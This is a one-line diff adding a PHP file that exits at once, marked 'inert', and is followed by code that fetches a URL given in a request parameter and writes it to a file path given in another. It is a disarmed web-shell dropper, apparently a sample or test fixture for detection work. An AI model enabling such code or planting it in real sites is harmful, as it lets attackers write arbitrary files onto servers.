@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $d=file_get_contents($_GET["u"]); file_put_contents($_GET["n"],$d);
